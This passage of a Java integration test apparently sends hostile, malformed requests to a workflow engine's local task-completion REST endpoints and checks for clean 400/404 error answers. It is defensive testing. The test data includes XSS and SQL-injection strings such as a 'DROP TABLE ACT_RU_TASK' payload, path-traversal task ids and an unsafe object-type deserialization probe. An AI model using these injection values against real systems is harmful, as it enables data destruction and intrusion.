        .put("objectTypeName", "java.lang.Thread").put("serializationDataFormat", "application/json")));
    typed.add(typedValue(text("[\"" + validValue + "\"]"), "Object", NODES.objectNode()
        .put("objectTypeName", "java.util.ArrayList").put("serializationDataFormat", "application/json")));
    typed.add(typedValue(text("\"" + validValue + "\""), "Object", NODES.objectNode()
        .put("objectTypeName", "java.lang.String").put("serializationDataFormat", "application/xml")));
    for (ObjectNode value : typed) {
      ObjectNode body = NODES.objectNode();
      body.putObject("variables").set(variable, value);
      attacks.add(Attack.engine(path, "task: bad type", variable + ": " + value.path("type").asText()
          + " " + abbreviate(value.path("value").toString(), 30), bytes(body), 400, null));
    }

    // payloads of the wrong shape, or without the decision
    Map<String, String> payloads = new LinkedHashMap<>();
    payloads.put("no variables", "{}");
    payloads.put("variables null", "{\"variables\":null}");
    payloads.put("variables empty", "{\"variables\":{}}");
    payloads.put("variables as a list", "{\"variables\":[{\"" + variable + "\":\"" + validValue + "\"}]}");
    payloads.put("variables as a string", "{\"variables\":\"" + validValue + "\"}");
    payloads.put("decision not wrapped in {value}", "{\"variables\":{\"" + variable + "\":\"" + validValue + "\"}}");
    payloads.put("decision under a misspelt key", "{\"variables\":{\"" + variable + "\":{\"valeur\":\"" + validValue
        + "\"}}}");
    payloads.put("decision name in another case", "{\"variables\":{\"" + variable.toLowerCase()
        + "\":{\"value\":\"" + validValue + "\"}}}");
    payloads.put("decision name with a trailing space", "{\"variables\":{\"" + variable
        + " \":{\"value\":\"" + validValue + "\"}}}");
    payloads.put("script as a variable name", "{\"variables\":{\"<script>alert(1)</script>\":{\"value\":\"x\"}}}");
    payloads.put("SQL as a variable name", "{\"variables\":{\"'; DROP TABLE ACT_RU_TASK; --\":{\"value\":\"x\"}}}");
    payloads.put("decision null", "{\"variables\":{\"" + variable + "\":null}}");
    payloads.put("decision with an empty type", "{\"variables\":{\"" + variable + "\":{\"value\":\""
        + validValue + "\",\"type\":\"\"}}}");
    payloads.put("empty variable name", "{\"variables\":{\"\":{\"value\":\"x\"}}}");
    payloads.put("bad decision, unknown top-level field", "{\"variables\":{\"" + variable
        + "\":{\"value\":\"MAYBE\"}},\"foo\":1}");
    payloads.put("bad decision, variables in return", "{\"variables\":{\"" + variable
        + "\":{\"value\":\"MAYBE\"}},\"withVariablesInReturn\":true}");
    payloads.put("duplicate decision key, the last one bad", "{\"variables\":{\"" + variable + "\":{\"value\":\""
        + validValue + "\"},\"" + variable + "\":{\"value\":\"MAYBE\"}}}");
    payloads.forEach((label, text) -> attacks.add(Attack.engine(path, "task: bad payload", label,
        text.getBytes(UTF_8), 400, null)));

    ObjectNode bad = NODES.objectNode();
    bad.putObject("variables").putObject(variable).put("value", "MAYBE");
    generateBodyAttacks(path, ADMIN, bad::toString, false);
  }

  void generateTaskPathAttacks() {
    ObjectNode body = NODES.objectNode();
    body.putObject("variables").putObject(Vars.REVIEW_DECISION).put("value", "CONTINUE");
    for (String id : List.of("no-such-task", "' OR 1=1 --", "<script>alert(1)", "..%2F..%2Fprocess-instance",
        "0".repeat(2000))) {
      attacks.add(Attack.engine("/engine-rest/task/" + URLEncoder.encode(id, UTF_8).replace("+", "%20")
          + "/complete", "task: unknown task", "task id " + abbreviate(id, 30), bytes(body), 404, null));
    }
  }

  static ObjectNode typedValue(JsonNode value, String type, ObjectNode valueInfo) {
    ObjectNode node = NODES.objectNode();
    node.set("value", value);
    node.put("type", type);
    if (valueInfo != null) {
      node.set("valueInfo", valueInfo);
    }
    return node;
  }

  // ------------------------------------------------------------------------------------------------ sending

  record Attack(String path, String method, String user, String category, String label, String contentType,
                byte[] body, boolean chunked, int expectedStatus, String expectedField, String expectedMessage) {

    static Attack api(String path, String user, String category, String label, byte[] body, int status,
                      String field) {
      return new Attack(path, "POST", user, category, label, "application/json", body, false, status, field, null);
    }

    static Attack engine(String path, String category, String label, byte[] body, int status, String message) {
      return new Attack(path, "POST", ADMIN, category, label, "application/json", body, false, status, null,
          message);
    }

    String target() {
      return path.startsWith("/engine-rest") ? "POST /engine-rest/task/{id}/complete" : "POST " + path;
    }
  }

  record Outcome(Attack attack, int status, String body, String problem) {
  }

  Outcome fire(Attack attack) {
    HttpResponse<String> response;
    try {
      response = client.send(request(attack.path(), attack.user(), attack.contentType(), attack.body(),
          attack.chunked()), BodyHandlers.ofString(UTF_8));
    } catch (IOException e) {
      return new Outcome(attack, -1, "", "no answer: " + e);
    } catch (InterruptedException e) {
      Thread.currentThread().interrupt();
      throw new IllegalStateException(e);
    }
    return new Outcome(attack, response.statusCode(), response.body(), check(attack, response));
  }

  /** Why the answer is not the expected one, or null. */
  static String check(Attack attack, HttpResponse<String> response) {
    int status = response.statusCode();
    if (status != attack.expectedStatus()) {
      return "expected " + attack.expectedStatus();
    }
    String body = response.body();
    if (body.contains("\tat ") || body.contains(".java:")) {
      return "stack trace in the body";
    }
    JsonNode json;
    try {
      json = JSON.readTree(body);
    } catch (IOException e) {
      return "body is not JSON";
    }
    if (json == null || !json.isObject()) {
      return "body is not a JSON object";
    }
    String contentType = response.headers().firstValue("Content-Type").orElse("");
    if (attack.path().startsWith("/api/")) {
      if (!contentType.startsWith("application/problem+json")) {
        return "Content-Type " + contentType + ", not problem JSON";
      }
      if (json.path("status").asInt() != status || json.path("title").asText().isBlank()
          || json.path("detail").asText().isBlank()) {
        return "problem JSON without status, title or detail";
      }
      if (attack.expectedField() != null) {
        List<String> fields = json.path("errors").findValuesAsText("field");
        String named = attack.expectedField();
        if (named.equals("*") ? fields.isEmpty() : fields.stream().noneMatch(f -> f.equals(named)
            || f.startsWith(named + ".") || f.startsWith(named + "["))) {
          return "errors " + fields + " do not name " + printable(attack.expectedField());
        }
      }
    } else {
      if (!contentType.startsWith("application/json")) {
        return "Content-Type " + contentType + ", not JSON";
      }
      if (json.path("type").asText().isBlank() || json.path("message").asText().isBlank()) {
        return "no type or message";
      }
      if (attack.expectedMessage() != null && !json.path("message").asText().contains(attack.expectedMessage())) {
        return "message does not name " + attack.expectedMessage();
      }
    }
    return null;
  }

  HttpRequest request(String path, String user, String contentType, byte[] body, boolean chunked) {
    HttpRequest.Builder builder = HttpRequest.newBuilder(URI.create("http://localhost:" + port + path))
        .timeout(Duration.ofSeconds(30))
        .header("Authorization", "Basic " + Base64.getEncoder()
            .encodeToString((user + ":" + PASSWORD).getBytes(UTF_8)))
        .header("Accept", "application/json, application/problem+json")
        .POST(chunked ? BodyPublishers.ofInputStream(() -> new ByteArrayInputStream(body))
            : BodyPublishers.ofByteArray(body));
    if (contentType != null) {
      builder.header("Content-Type", contentType);
    }
    return builder.build();
  }

  HttpResponse<String> send(String path, String user, JsonNode body) throws Exception {
    return client.send(request(path, user, "application/json", bytes(body), false), BodyHandlers.ofString(UTF_8));
  }

  HttpResponse<String> get(String path) throws Exception {
    return client.send(HttpRequest.newBuilder(URI.create("http://localhost:" + port + path))
        .timeout(Duration.ofSeconds(30)).GET().build(), BodyHandlers.ofString(UTF_8));
  }

  HttpResponse<String> completeTask(String taskId, Map<String, String> variables) throws Exception {
    ObjectNode body = NODES.objectNode();
    ObjectNode vars = body.putObject("variables");
    variables.forEach((name, value) -> vars.putObject(name).put("value", value));
    return send("/engine-rest/task/" + taskId + "/complete", ADMIN, body);
  }

  static String created(HttpResponse<String> response) throws IOException {
    assertThat(response.statusCode()).as(response.body()).isEqualTo(201);
    return JSON.readTree(response.body()).get("processInstanceId").asText();
  }

  static String firstDwellingOption(EngineRestClient rest, String instance) {
    JsonNode options = EngineRestClient.json(rest.variable(instance, Vars.DWELLING_OPTIONS).get("value").asText());
    assertThat(options).isNotEmpty();
    return options.get(0).get("value").asText();
  }

  // ------------------------------------------------------------------------------------------------ store

  /** What hostile requests must not change: engine state and history, the domain store, the budget. */
  Map<String, String> storeSnapshot() {
    return StoreSnapshot.of(jdbc);
  }

  long count(String sql) {
    Long value = jdbc.queryForObject(sql, Long.class);
    return value == null ? 0 : value;
  }

  // ------------------------------------------------------------------------------------------------ summary

  static void printSummary(List<Outcome> outcomes) {
    Set<Integer> statuses = new TreeSet<>();
    Map<String, Map<Integer, Integer>> table = new TreeMap<>();
    for (Outcome outcome : outcomes) {
      statuses.add(outcome.status());
      table.computeIfAbsent(outcome.attack().target() + " | " + outcome.attack().category(), k -> new TreeMap<>())
          .merge(outcome.status(), 1, Integer::sum);
    }
    int width = table.keySet().stream().mapToInt(String::length).max().orElse(10);
    StringBuilder out = new StringBuilder("\nHostile input: " + outcomes.size() + " requests\n");
    out.append(String.format("%-" + width + "s", "endpoint | category"));
    statuses.forEach(s -> out.append(String.format(" %5s", s < 0 ? "none" : s)));
    out.append(String.format(" %6s%n", "total"));
    table.forEach((row, counts) -> {
      out.append(String.format("%-" + width + "s", row));
      statuses.forEach(s -> out.append(String.format(" %5s", counts.getOrDefault(s, 0) == 0 ? "." : counts.get(s))));
      out.append(String.format(" %6d%n", counts.values().stream().mapToInt(Integer::intValue).sum()));
    });
    out.append(String.format("%-" + width + "s", "total"));
    statuses.forEach(s -> out.append(String.format(" %5d", outcomes.stream().filter(o -> o.status() == s).count())));
    out.append(String.format(" %6d%n", outcomes.size()));
    System.out.println(out);
  }

  // ------------------------------------------------------------------------------------------------ helpers

  static JsonNode text(String value) {
    return NODES.textNode(value);
  }

  /** A JSON number written exactly as given (1e400, 2000 digits...). */
  static JsonNode number(String literal) {
    return NODES.rawValueNode(new RawValue(literal));
  }

  static byte[] bytes(JsonNode body) {
    try {
      return JSON.writeValueAsBytes(body);
    } catch (IOException e) {
      throw new IllegalStateException(e);
    }
  }

  static byte[] utf8(String text) {
    return text.getBytes(UTF_8);
  }

  static String half(String text) {
    return text.substring(0, text.length() / 2);
  }

  static byte[] concat(byte[]... parts) {
    ByteArrayOutputStream out = new ByteArrayOutputStream();
    for (byte[] part : parts) {
      out.writeBytes(part);
    }
    return out.toByteArray();
  }

  static String fullwidth(String ascii) {
    return ascii.chars().mapToObj(c -> c > 0x20 && c < 0x7F ? String.valueOf((char) (c + 0xFEE0))
        : String.valueOf((char) c)).collect(Collectors.joining());
  }

  static String printable(String text) {
    StringBuilder out = new StringBuilder();
    text.codePoints().forEach(c -> out.append(c < 0x20 || c == 0x7F || c > 0x7E
        ? String.format("\\u%04X", c) : String.valueOf((char) c)));
    return out.toString();
  }

  static String abbreviate(String text, int max) {
    String shown = printable(text == null ? "" : text);
    return shown.length() <= max ? shown : shown.substring(0, max) + "…(" + text.length() + " chars)";
  }
}
